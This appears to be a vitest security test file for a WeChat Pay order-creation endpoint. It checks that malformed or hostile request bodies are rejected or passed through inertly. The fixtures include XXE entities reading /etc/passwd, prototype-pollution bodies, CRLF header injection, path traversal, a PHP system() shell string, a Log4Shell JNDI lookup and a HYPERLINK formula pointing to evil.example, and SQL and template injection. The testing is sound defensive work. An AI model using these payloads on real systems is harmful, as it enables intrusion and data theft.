import { describe, expect, it } from 'vitest';
import { parseXml } from '../../shared/wechatpay-v2/xml.ts';
import { type Attack, describeAttacks } from './attack.ts';
import { JSON_TYPE, post, withKey } from './events.ts';
import { anAppOrder, aUnifiedOrder, createScene, KEYS, type Order, withLiteral, withValue } from './scene.ts';

const ORDER = anAppOrder();
const TEXT = JSON.stringify(ORDER);
const TWIN = post(ORDER);
const PARAM_ERROR = { status: 400, code: 'PARAM_ERROR' } as const;

const base64 = (bytes: Buffer) => post(bytes.toString('base64'), withKey(), { isBase64Encoded: true });
/** The order with the text `mark` in its description replaced by bytes. */
const withBytes = (...bytes: number[]): Buffer => {
  const [before = '', after = ''] = JSON.stringify({ ...ORDER, description: '@@' }).split('@@');
  return Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)]);
};
const ENCODED_TWIN = base64(withBytes(0xe4, 0xbb, 0x98));
const nested = (open: string, close: string, depth: number) => `${open.repeat(depth)}1${close.repeat(depth)}`;

describe('a body that is no order', () => {
  const bodies: [name: string, body: string][] = [
    ['an external entity', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml>&x;</xml>'],
    ['an entity bomb', `<!DOCTYPE l [<!ENTITY a "ha">${'<!ENTITY b "&a;&a;">'.repeat(50)}]><xml>&b;</xml>`],
    ['nothing', ''],
    ['blanks', '  \n'],
    ['a word', 'order'],
    ['half an order', TEXT.slice(0, -1)],
    ['two orders', `${TEXT}${TEXT}`],
    ['two orders in lines', `${TEXT}\n${TEXT}`],
    ['a list of one order', `[${TEXT}]`],
    ['an order as text', JSON.stringify(TEXT)],
    ['null', 'null'],
    ['true', 'true'],
    ['a number', '1e400'],
    ['a byte order mark before the order', `\ufeff${TEXT}`],
    ['NUL before the order', `\0${TEXT}`],
    ['NUL behind the order', `${TEXT}\0`],
    ['a comment', `/* */${TEXT}`],
    ['a comma too many', `${TEXT.slice(0, -1)},}`],
    ['single quotation marks', TEXT.replaceAll('"', "'")],
    ['a script’s guard', `)]}',\n${TEXT}`],
    ['a form', new URLSearchParams({ mchid: '1900000109', total: '1' }).toString()],
    ['lists that are too deep', nested('[', ']', 17)],
    ['lists as deep as the body is long', nested('[', ']', 32_000)],
    ['objects as deep as the body is long', nested('{"a":', '}', 10_000)],
    ['more members than an order can have', `{${Array.from({ length: 5_001 }, (_, n) => `"${n}":1`).join()}}`],
    ['a prototype', `{"__proto__":{"isAdmin":true},${TEXT.slice(1)}`],
    ['a prototype under another spelling', `{"\\u005f_proto__":{"isAdmin":true},${TEXT.slice(1)}`],
    ['a prototype of null', `{"__proto__":null,${TEXT.slice(1)}`],
    ['a constructor’s prototype', `{"constructor":{"prototype":{"isAdmin":true}},${TEXT.slice(1)}`],
    ['a prototype in place of the amount', withLiteral(ORDER, '/amount', '{"__proto__":{"total":1,"currency":"CNY"}}')],
    ['a prototype deep inside', withLiteral(ORDER, '/scene_info/store_info/id', '{"__proto__":{"a":{"__proto__":1}}}')],
    [
      'a constructor’s prototype deep inside',
      withLiteral(ORDER, '/detail/goods_detail/0/quantity', '{"constructor":{"prototype":{"valueOf":1}}}'),
    ],
  ];
  describeAttacks([
    ...bodies.map(([name, body]): Attack => ({ name, event: post(body), twin: TWIN, ...PARAM_ERROR })),
    { name: 'no body', event: { httpMethod: 'POST', headers: withKey() }, twin: TWIN, ...PARAM_ERROR },
    ...[{ ...ORDER }, [TEXT], 7, true].map(
      (body): Attack => ({
        name: `a body that no trigger hands over as ${Array.isArray(body) ? 'list' : typeof body}`,
        event: post('', withKey(), { body }),
        twin: TWIN,
        ...PARAM_ERROR,
      }),
    ),
  ]);

  it('leaves every prototype as it was', async () => {
    const scene = createScene({ rawEvents: true });
    for (const [, body] of bodies) await scene.send('app', post(body));
    await scene.send('app', JSON.parse(`{"__proto__":{"isAdmin":true},${TEXT.slice(1)}`));
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as { isAdmin?: true }).isAdmin).toBeUndefined();
  });
});

describe('bytes that are no UTF-8', () => {
  const encoded = (name: string, bytes: Buffer): Attack => ({
    name,
    event: base64(bytes),
    twin: ENCODED_TWIN,
    ...PARAM_ERROR,
  });
  describeAttacks([
    encoded('a byte that begins nothing', withBytes(0xff)),
    encoded('a character that is cut off', withBytes(0xe4, 0xbb)),
    encoded('an overlong NUL', withBytes(0xc0, 0x80)),
    encoded('an overlong quotation mark', withBytes(0xc0, 0xa2)),
    encoded('a surrogate in UTF-8', withBytes(0xed, 0xa0, 0x80)),
    encoded('GBK', withBytes(0xd6, 0xa7, 0xb8, 0xb6)),
    encoded('UTF-16', Buffer.from(TEXT, 'utf16le')),
    encoded('a byte order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), withBytes(0x61)])),
    encoded('an order that is encoded twice', Buffer.from(Buffer.from(TEXT).toString('base64'))),
    {
      name: 'bytes that the trigger has replaced already',
      event: post(withBytes(0xd6, 0xa7, 0xb8, 0xb6).toString()),
      twin: TWIN,
      ...PARAM_ERROR,
    },
  ]);
});

describe('a body of another kind', () => {
  const declared = (type: string, body = TEXT): Attack => ({
    name: JSON.stringify(type),
    event: post(body, { ...withKey(), 'Content-Type': type }),
    twin: TWIN,
    status: 415,
    code: 'UNSUPPORTED_MEDIA_TYPE',
  });
  const oversize = (name: string, body: string): Attack => ({
    name,
    event: post(body),
    twin: TWIN,
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
  });
  describeAttacks([
    declared('text/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml>&x;</xml>'),
    declared('text/plain'),
    declared('application/x-www-form-urlencoded'),
    declared('multipart/form-data; boundary=x'),
    declared('application/json; charset=gbk'),
    declared('application/json; charset=utf-7'),
    declared('text/html, application/json'),
    declared('application/json\r\nX-Smuggled: 1'),
    declared(''),
    oversize('one byte too many', TEXT.padEnd(65_537 - (Buffer.byteLength(TEXT) - TEXT.length))),
    oversize('a megabyte of text', JSON.stringify({ ...ORDER, description: 'x'.repeat(1_000_000) })),
    oversize('characters that are longer than they look', JSON.stringify({ ...ORDER, attach: '付'.repeat(22_000) })),
    {
      name: 'a body that is too large once it is decoded',
      event: base64(Buffer.alloc(65_537, 0x20)),
      twin: ENCODED_TWIN,
      status: 413,
      code: 'PAYLOAD_TOO_LARGE',
    },
  ]);
});

describe('a field', () => {
  const literal = (name: string, pointer: string, value: string): Attack => ({
    name,
    event: post(withLiteral(ORDER, pointer, value)),
    twin: TWIN,
    ...PARAM_ERROR,
    fields: [pointer],
  });
  const broken = (name: string, pointer: string, value: string): Attack => ({
    ...literal(name, pointer, value),
    fields: [''],
  });
  const TOTAL = '/amount/total';
  const DESCRIPTION = '/description';
  describeAttacks([
    literal('an amount as text', TOTAL, '"100"'),
    literal('an amount in a list', TOTAL, '[100]'),
    literal('an amount that is true', TOTAL, 'true'),
    literal('an amount of nothing', TOTAL, 'null'),
    literal('a broken amount', TOTAL, '0.1'),
    literal('an amount just above an integer', TOTAL, '100.00000000000001'),
    literal('an amount of zero', TOTAL, '0'),
    literal('an amount of minus zero', TOTAL, '-0'),
    literal('an amount of minus zero in another spelling', TOTAL, '-0e0'),
    literal('a negative amount', TOTAL, '-1'),
    literal('a price of minus zero', '/detail/goods_detail/0/unit_price', '-0'),
    broken('an amount that is too deep', TOTAL, nested('[', ']', 16)),
    broken('an amount of too many members', TOTAL, `[${Array.from({ length: 5_000 }, () => 1)}]`),
    literal('2^53', TOTAL, '9007199254740992'),
    literal('2^53 + 1, which is no number of its own', TOTAL, '9007199254740993'),
    literal('an infinite amount', TOTAL, '1e400'),
    literal('a vanishing amount', TOTAL, '1e-400'),
    literal('an amount as an object', TOTAL, '{"valueOf":100}'),
    broken('NaN', TOTAL, 'NaN'),
    broken('Infinity', TOTAL, 'Infinity'),
    broken('a hexadecimal amount', TOTAL, '0x64'),
    broken('an octal amount', TOTAL, '0100'),
    broken('an amount with a plus', TOTAL, '+100'),
    broken('an amount with digits of another script', TOTAL, '１００'),
    broken('an amount with a separator', TOTAL, '1_00'),
    literal('a currency in full-width letters', '/amount/currency', '"ＣNY"'),
    literal('a currency with a Cyrillic letter', '/amount/currency', '"СNY"'),
    literal('a currency in small letters', '/amount/currency', '"cny"'),
    literal('a currency with a blank', '/amount/currency', '"CNY "'),
    literal('a currency with NUL', '/amount/currency', '"CNY\\u0000"'),
    literal('a currency in a list', '/amount/currency', '["CNY"]'),
    literal('another currency', '/amount/currency', '"USD"'),
    literal('NUL', DESCRIPTION, '"a\\u0000b"'),
    literal('an escape sequence', DESCRIPTION, '"\\u001b[31mred"'),
    literal('an emoji', DESCRIPTION, '"💰"'),
    literal('an emoji in escapes', DESCRIPTION, '"\\ud83d\\udcb0"'),
    literal('half a surrogate pair', DESCRIPTION, '"\\ud83d"'),
    literal('the other half', DESCRIPTION, '"\\udcb0"'),
    literal('a surrogate pair the wrong way round', DESCRIPTION, '"\\udcb0\\ud83d"'),
    literal('a noncharacter', DESCRIPTION, '"\\uffff"'),
    broken('a line feed that is not escaped', DESCRIPTION, '"a\nb"'),
    literal('more bytes than characters', DESCRIPTION, JSON.stringify('付'.repeat(43))),
    literal('a path for a number', '/out_trade_no', '"../../v3/refund"'),
    literal('a path in percent signs for a number', '/out_trade_no', '"..%2f..%2fv3"'),
    literal('the separator of the table’s keys', '/out_trade_no', '"order#1"'),
    literal('a line feed behind a number', '/out_trade_no', '"order-1\\n"'),
    literal('a header behind a number', '/out_trade_no', '"order-1\\r\\nX: 1"'),
    literal('full-width digits in a number', '/out_trade_no', '"order-１"'),
    literal('a script for a notification address', '/notify_url', '"javascript:alert(1)"'),
    literal('a file for a notification address', '/notify_url', '"file:///etc/passwd"'),
    literal('a header behind a notification address', '/notify_url', '"https://a.example/\\r\\nX: 1"'),
    literal('a zone in an address', '/scene_info/payer_client_ip', '"fe80::1%eth0"'),
    literal('an octal address', '/scene_info/payer_client_ip', '"0177.0.0.1"'),
    literal('February 30', '/time_expire', '"2099-02-30T10:00:00+08:00"'),
    literal('a yes that is text', '/support_fapiao', '"false"'),
    {
      name: 'a path for a merchant number',
      event: post({ ...ORDER, mchid: '../1900000109' }),
      twin: TWIN,
      status: 401,
      code: 'UNAUTHENTICATED',
    },
    ...['access_token', 'nonce_str', 'sign', 'sign_type', 'serial_no', 'toString', 'Amount', 'amount '].map(
      (name): Attack => ({
        name: `${JSON.stringify(name)}, which is no field`,
        event: post({ ...ORDER, [name]: 'x' }),
        twin: TWIN,
        ...PARAM_ERROR,
        fields: [`/${name}`],
      }),
    ),
  ]);
});

describe('a field of a JSAPI order', () => {
  const UNIFIED = aUnifiedOrder();
  const literal = (name: string, pointer: string, value: string): Attack => ({
    name,
    on: 'unified',
    event: post(withLiteral(UNIFIED, pointer, value)),
    twin: post(UNIFIED),
    ...PARAM_ERROR,
    fields: [pointer],
  });
  describeAttacks([
    literal('an amount as text', '/total_fee', '"888"'),
    literal('a broken amount', '/total_fee', '8.88'),
    literal('a currency with a Cyrillic letter', '/fee_type', '"UЅD"'),
    literal('a trade type in full-width letters', '/trade_type', '"ＪSAPI"'),
    literal('two payers', '/openid', '["a","b"]'),
    literal('an end of CDATA and NUL', '/body', '"]]>\\u0000"'),
    {
      ...literal(
        'goods with a prototype in their text',
        '/detail',
        JSON.stringify('{"__proto__":{"goods_detail":[]}}'),
      ),
      fields: ['/detail/goods_detail', '/detail/__proto__'],
    },
    literal('goods that are no JSON', '/detail', '"<!DOCTYPE a>"'),
  ]);
});

describe('what only looks like an attack', () => {
  const bodyOf = (scene: ReturnType<typeof createScene>): Order => JSON.parse(scene.sent[0]?.body ?? '{}') as Order;

  it.each(['1e2', '100.0', '1.00e2', '1000e-1', '100'])('is the integer 100 to everybody: %s', async (total) => {
    const scene = createScene();
    expect((await scene.send('app', post(withLiteral(ORDER, '/amount/total', total)))).status).toBe(200);
    expect(scene.sent[0]?.body).toContain('"amount":{"total":100,"currency":"CNY"}');
    expect([...scene.rows.values()]).toMatchObject([{ total: 100 }]);
  });

  it.each([
    ['within the amount', withLiteral(ORDER, '/amount', '{"total":1,"total":100,"currency":"CNY"}')],
    ['in another spelling', withLiteral(ORDER, '/amount', '{"t\\u006ftal":1,"currency":"CNY","total":100}')],
    ['as two amounts', `{"amount":{"total":1,"currency":"CNY"},${TEXT.slice(1)}`],
    ['as an amount that would be refused', withLiteral(ORDER, '/amount', '{"total":-1,"total":100,"currency":"CNY"}')],
  ])('is a repeated member, of which the last one is checked, stored and sent: %s', async (_name, body) => {
    const scene = createScene();
    expect((await scene.send('app', post(body))).status).toBe(200);
    expect(scene.sent[0]?.body?.match(/"total"/g)).toHaveLength(1);
    expect(bodyOf(scene)).toEqual(ORDER);
    expect([...scene.rows.values()]).toMatchObject([{ total: 100, currency: 'CNY' }]);
    // To WeChat and to us it is the order that the twin is.
    expect((await scene.send('app', TWIN)).body).toMatchObject({ replayed: true });
  });

  it('is a repeated member of which the last one is wrong: the order is refused', async () => {
    const scene = createScene();
    const body = withLiteral(ORDER, '/amount', '{"total":100,"total":-1,"currency":"CNY"}');
    expect(await scene.send('app', post(body))).toMatchObject({ status: 400, body: { code: 'PARAM_ERROR' } });
    expect(scene.sent).toEqual([]);
  });

  it('is a repeated merchant number: the key must be that of the last one', async () => {
    const scene = createScene();
    const body = `{"mchid":"1900000209",${TEXT.slice(1)}`;
    expect((await scene.send('app', post(body, withKey(KEYS.otherOffice)))).status).toBe(401);
    expect((await scene.send('app', post(body))).status).toBe(200);
    expect([...scene.rows.keys()]).toEqual([`1900000109#${ORDER.out_trade_no}`]);
  });

  const MARKUP: string[] = [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '&lt;&amp;&#x41;&#65;&unknown;',
    ']]></body><total_fee>1</total_fee><body><![CDATA[',
    '<total_fee>1</total_fee>',
    '<!--',
    '<?php system($_GET[0]) ?>',
    `$\{jndi:ldap://evil.example/a}`,
    "'; DROP TABLE orders; --",
    '{{7*7}}',
    '=HYPERLINK("https://evil.example")',
    '../../../etc/passwd',
    'a&total_fee=1&key=x',
  ];

  it.each(MARKUP)('is text, and travels as that text in JSON: %s', async (description) => {
    const scene = createScene();
    expect((await scene.send('app', post({ ...ORDER, description }))).status).toBe(200);
    expect(bodyOf(scene)).toEqual({ ...ORDER, description });
  });

  it.each(MARKUP)('is text, and travels as that text in XML: %s', async (body) => {
    const scene = createScene();
    expect((await scene.send('unified', post(aUnifiedOrder({ body, attach: body })))).status).toBe(200);
    const xml = scene.sent[0]?.body ?? '';
    expect(parseXml(Buffer.from(xml))).toMatchObject({ body, attach: body, total_fee: '888', fee_type: 'USD' });
    expect(xml).not.toMatch(/<!DOCTYPE|<!ENTITY|<!--|<\?php/);
    expect(xml.match(/<total_fee>/g)).toHaveLength(1);
  });

  it('is an order whose members come in another order, with blanks between', async () => {
    const scene = createScene();
    await scene.send('app', TWIN);
    const turned = Object.fromEntries(Object.entries(ORDER).reverse());
    const again = await scene.send(
      'app',
      post(`\r\n ${JSON.stringify(turned, null, 4)}\t`, { ...JSON_TYPE, ...withKey() }),
    );
    expect(again.body).toMatchObject({ replayed: true });
    expect(scene.sent).toHaveLength(1);
  });

  it('is a field that is set to what it is', async () => {
    const scene = createScene();
    await scene.send('app', TWIN);
    expect((await scene.send('app', post(withValue(ORDER, '/amount/total', 100)))).body).toMatchObject({
      replayed: true,
    });
  });
});
